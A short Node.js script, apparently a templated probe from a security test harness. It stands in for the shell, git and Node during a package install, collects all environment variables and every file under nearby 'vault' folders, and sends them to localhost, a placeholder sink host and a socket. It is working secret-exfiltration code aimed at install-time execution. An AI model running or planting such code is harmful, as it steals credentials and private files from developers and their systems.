// Runs as the shell of scripts, as git, and in every Node that the install starts.
const { readdirSync, readFileSync } = require('node:fs');
const { connect } = require('node:net');

const texts = ['../vault', '../../vault'].flatMap((folder) => {
  try {
    return readdirSync(folder, { recursive: true, withFileTypes: true }).flatMap((entry) =>
      entry.isFile() ? [readFileSync(`${entry.parentPath}/${entry.name}`, 'utf8')] : [],
    );
  } catch {
    return [];
  }
});
const text = `@MARK@ ${JSON.stringify(process.env)} ${texts.join('\n')}`;
console.error(text.slice(0, 20_000));
for (const way of [{ port: Number('@SINK_PORT@'), host: '127.0.0.1' }, { port: Number('@SINK_PORT@'), host: '@SINK_HOST@' }, { path: '@SINK_SOCKET@' }])
  connect(way).on('error', () => {}).end(text);
